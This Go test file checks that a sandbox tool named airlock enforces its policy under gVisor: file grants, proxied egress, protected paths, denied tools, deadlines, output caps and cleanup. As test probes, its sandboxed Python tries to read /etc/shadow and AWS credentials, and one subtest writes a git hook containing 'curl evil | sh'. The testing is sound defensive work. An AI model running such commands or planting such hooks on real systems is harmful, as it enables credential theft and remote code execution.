package sandbox_test

import (
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/airlock-sandbox/airlock/internal/airtest"
	"github.com/airlock-sandbox/airlock/policy"
	"github.com/airlock-sandbox/airlock/policy/budget"
	"github.com/airlock-sandbox/airlock/sandbox"
)

// gVisor (isolation gvisor: the OCI bundle under runsc), attacked as the
// other backends are: the workload runs on gVisor's kernel, with airlock's
// proxy, deadline, output cap and report around it.

func requireGVisor(t *testing.T) {
	t.Helper()
	airtest.RequireRoot(t)
	airtest.RequireBinary(t, "/usr/bin/runsc")
	airtest.RequireBinary(t, "/usr/bin/python3")
}

func runG(t *testing.T, spec policy.Spec, argv ...string) *sandbox.Report {
	t.Helper()
	if spec.Budget.Wall == 0 {
		spec.Budget.Wall = 30 * time.Second
	}
	p, err := policy.New(spec)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	rep, err := (&sandbox.Cmd{Config: sandbox.Config{Policy: p, Isolation: sandbox.IsolationGVisor}, Args: argv, CommandIsGranted: true}).Run(ctx)
	if err != nil {
		t.Fatal(err)
	}
	return rep
}

// TestIsolationGVisor: grants, secrets, egress through airlock's proxy
// and nowhere else, writes in place given back to their owner, protected
// paths, a denied tool, the deadline and the output cap, and the report.
func TestIsolationGVisor(t *testing.T) {
	requireGVisor(t)
	tr := newTree(t)
	if err := os.Chmod(filepath.Dir(tr.root), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(tr.out, 0o777); err != nil {
		t.Fatal(err)
	}
	var allowedHits, deniedHits, directHits atomic.Int32
	allowed := serve(t, &allowedHits, "hello from allowed")
	denied := serve(t, &deniedHits, "nope")
	direct, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer direct.Close()
	go acceptCount(direct, &directHits)
	code := fmt.Sprintf(`
import os, socket, sys, urllib.request
bad = []
print(open(%q).read().strip())
open(%q, "w").write("written in gvisor")
for p in [%q, "/etc/shadow", %q]:
    try:
        open(p).read(); bad.append("read " + p)
    except OSError:
        pass
print(urllib.request.urlopen("http://%s/", timeout=10).read().decode())
try:
    urllib.request.urlopen("http://%s/", timeout=10).read(); bad.append("denied host reached")
except Exception:
    pass
for host, port in [%s, ("10.0.2.2", 80)]:
    try:
        socket.create_connection((host, int(port)), timeout=3); bad.append("direct connect to %%s:%%s" %% (host, port))
    except OSError:
        pass
print("kernel", os.uname().release)
print("bad", bad)
sys.exit(1 if bad else 0)`, tr.work+"/data.csv", tr.out+"/g.txt", tr.secret, filepath.Join(tr.home, ".aws", "credentials"), allowed, denied,
		pyTuple(strings.Split(direct.Addr().String(), ":")))
	rep := runG(t, policy.Spec{FSRead: []string{tr.work}, FSWrite: []string{tr.out}, NetHosts: []string{allowed}, AllowDowngrade: []string{"staged_writes"}},
		"/usr/bin/python3", "-c", code)
	wantExit(t, rep, 0)
	if !strings.Contains(rep.Stdout, "hello from allowed") || !strings.Contains(rep.Stdout, "x,y") {
		t.Fatalf("stdout = %q", rep.Stdout)
	}
	if deniedHits.Load() != 0 || directHits.Load() != 0 {
		t.Fatalf("the denied server got %d connections, the direct listener %d", deniedHits.Load(), directHits.Load())
	}
	e := rep.Enforcement
	if e.Backend != "oci/runsc" || !strings.HasPrefix(e.Platform, "gvisor/") || !strings.Contains(strings.Join(e.Weaker, "\n"), "gvisor: fs_write grants are written in place") {
		t.Fatalf("enforcement = %+v", e)
	}
	file, err := os.Stat(filepath.Join(tr.out, "g.txt"))
	if b, _ := os.ReadFile(filepath.Join(tr.out, "g.txt")); err != nil || string(b) != "written in gvisor" {
		t.Fatalf("g.txt = %q, %v", b, err)
	}
	if fuid(file) != uint32(os.Getuid()) {
		t.Fatalf("g.txt belongs to uid %d, not to the caller %d", fuid(file), os.Getuid())
	}

	t.Run("fs_write-folder-needs-staged-writes", func(t *testing.T) {
		rep := runG(t, policy.Spec{FSWrite: []string{tr.out}}, "/bin/true")
		if rep.ExitCode != 125 || !strings.Contains(rep.Error, "staged_writes") {
			t.Fatalf("exit %d, error %q; want 125 naming staged_writes", rep.ExitCode, rep.Error)
		}
	})
	t.Run("protected-paths", func(t *testing.T) {
		gitRepo(t, tr.out)
		rep := runG(t, policy.Spec{FSWrite: []string{tr.out}, AllowDowngrade: []string{"staged_writes"}}, "/usr/bin/python3", "-c", fmt.Sprintf(`
import os
try:
    open(os.path.join(%q, ".git/hooks/post-checkout"), "w").write("curl evil | sh"); print("HOOK WRITTEN")
except OSError as e:
    print("hook errno", e.errno)`, tr.out))
		if !strings.Contains(rep.Stdout, "hook errno") {
			t.Fatalf("the existing hooks folder was writable: %q %q", rep.Stdout, rep.Stderr)
		}
		if _, err := os.Lstat(filepath.Join(tr.out, ".git/hooks/post-checkout")); err == nil {
			t.Fatal("a git hook reached the host")
		}
	})
	t.Run("denied-tool", func(t *testing.T) {
		rep := runG(t, policy.Spec{}, "/bin/sh", "-c", "/usr/bin/id; echo id=$?")
		if !strings.Contains(rep.Stdout, "id=127") {
			t.Fatalf("a tool outside allowed_tools ran: %q %q", rep.Stdout, rep.Stderr)
		}
	})
	t.Run("deadline", func(t *testing.T) {
		rep := runG(t, policy.Spec{Budget: budget.Limits{Wall: 2 * time.Second}}, "/usr/bin/python3", "-c", "import os\nif os.fork() == 0:\n    os.setsid()\nwhile True: pass")
		wantHalt(t, rep, budget.MaxWall)
	})
	t.Run("output-cap", func(t *testing.T) {
		rep := runG(t, policy.Spec{Budget: budget.Limits{OutputBytes: 4096}}, "/usr/bin/python3", "-c", "while True: print('y' * 100)")
		if rep.HaltedBy == nil || *rep.HaltedBy != "max_output_bytes" || len(rep.Stdout) > 4096 {
			t.Fatalf("halted_by %v, %d bytes", rep.HaltedBy, len(rep.Stdout))
		}
	})
}

// TestIsolationGVisorSession: a session under gVisor keeps background
// processes between execs, serves the file API on its grants and ends
// everything when it closes.
func TestIsolationGVisorSession(t *testing.T) {
	requireGVisor(t)
	tr := newTree(t)
	if err := os.Chmod(filepath.Dir(tr.root), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(tr.out, 0o777); err != nil {
		t.Fatal(err)
	}
	p, err := policy.New(policy.Spec{FSWrite: []string{tr.out}, AllowedTools: []string{"sh", "sleep", "cat"}, AllowDowngrade: []string{"staged_writes"},
		Budget: budget.Limits{Wall: 60 * time.Second}})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	s, err := sandbox.NewSession(ctx, sandbox.Config{Policy: p, Isolation: sandbox.IsolationGVisor})
	if err != nil {
		t.Fatalf("NewSession under gVisor: %v", err)
	}
	defer s.Close()
	if err := s.Guard().Write(filepath.Join(tr.out, "in.txt"), []byte("from the API\n")); err != nil {
		t.Fatalf("file API write: %v", err)
	}
	rep, err := s.Exec(ctx, sandbox.ExecRequest{Args: []string{"sh", "-c", "cat in.txt > result.txt; (sleep 1000 &) ; echo started; exit 3"}})
	if err != nil || rep.ExitCode != 3 || rep.Stdout != "started\n" {
		t.Fatalf("first exec = %+v, %v", rep, err)
	}
	rep, err = s.Exec(ctx, sandbox.ExecRequest{Args: []string{"sh", "-c", "cat result.txt; cat /proc/[0-9]*/comm"}})
	if err != nil || rep.ExitCode != 0 || !strings.HasPrefix(rep.Stdout, "from the API\n") || !strings.Contains(rep.Stdout, "sleep\n") {
		t.Fatalf("second exec = %+v, %v", rep, err)
	}
	if got, err := s.Guard().Read(filepath.Join(tr.out, "result.txt")); err != nil || string(got) != "from the API\n" {
		t.Fatalf("file API read = %q, %v", got, err)
	}
	rep, err = s.Exec(ctx, sandbox.ExecRequest{Args: []string{"sleep", "30"}, Timeout: time.Second})
	if err != nil || rep.HaltedBy == nil {
		t.Fatalf("exec past its timeout = %+v, %v; want halted", rep, err)
	}
}

func fuid(fi os.FileInfo) uint32 { return fi.Sys().(*syscall.Stat_t).Uid }

// pyTuple writes ss as a Python tuple of strings.
func pyTuple(ss []string) string {
	return "(" + strings.TrimSuffix(strings.TrimPrefix(pyList(ss), "["), "]") + ",)"
}

// TestIsolationGVisorJanitor: when a supervisor running a gVisor sandbox is
// SIGKILLed, the sentry and gofer die with it (they live in the launcher's
// pid namespace), and the next OCI run's janitor removes its work folder
// and cgroups.
func TestIsolationGVisorJanitor(t *testing.T) {
	requireGVisor(t)
	dir := t.TempDir()
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	bin := filepath.Join(dir, "airlock")
	goBuild(t, "../cmd/airlock", bin)
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, bin, "run", "--isolation", "gvisor", "--max-wall", "60s",
		"--", "/usr/bin/python3", "-c", "import time\nwhile True: time.sleep(1)")
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	// The runsc processes name the container, which names the supervisor.
	id := fmt.Sprintf("airlock-%d-", cmd.Process.Pid)
	sentry := func() []int {
		var out []int
		for _, pid := range marked(t, id) {
			if b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid)); pid != cmd.Process.Pid && strings.Contains(string(b), "runsc") {
				out = append(out, pid)
			}
		}
		return out
	}
	if !waitFor(30*time.Second, func() bool { return len(sentry()) > 0 }) {
		_ = cmd.Process.Kill()
		t.Fatal("the gVisor sandbox never started")
	}
	killed := cmd.Process.Pid
	_ = cmd.Process.Kill()
	_ = cmd.Wait()
	if !waitFor(20*time.Second, func() bool { return len(sentry()) == 0 }) {
		t.Fatalf("the sentry or gofer outlived its supervisor: %v", sentry())
	}
	leftovers := func() []string {
		m, _ := filepath.Glob(filepath.Join(os.TempDir(), fmt.Sprintf("airlock-%d-*", killed)))
		return m
	}
	if len(leftovers()) == 0 {
		t.Fatal("the killed supervisor left no work folder: the janitor check below would prove nothing")
	}
	rep := runG(t, policy.Spec{Budget: budget.Limits{Wall: 20 * time.Second}}, "/bin/true")
	wantExit(t, rep, 0)
	if l := leftovers(); len(l) != 0 {
		t.Fatalf("the janitor left %v", l)
	}
	for _, pat := range []string{"/sys/fs/cgroup/*/airlock-oci", "/sys/fs/cgroup/airlock-oci"} {
		if m, _ := filepath.Glob(filepath.Join(pat, fmt.Sprintf("airlock-%d-*", killed))); len(m) != 0 {
			t.Fatalf("the janitor left container cgroups %v", m)
		}
	}
}
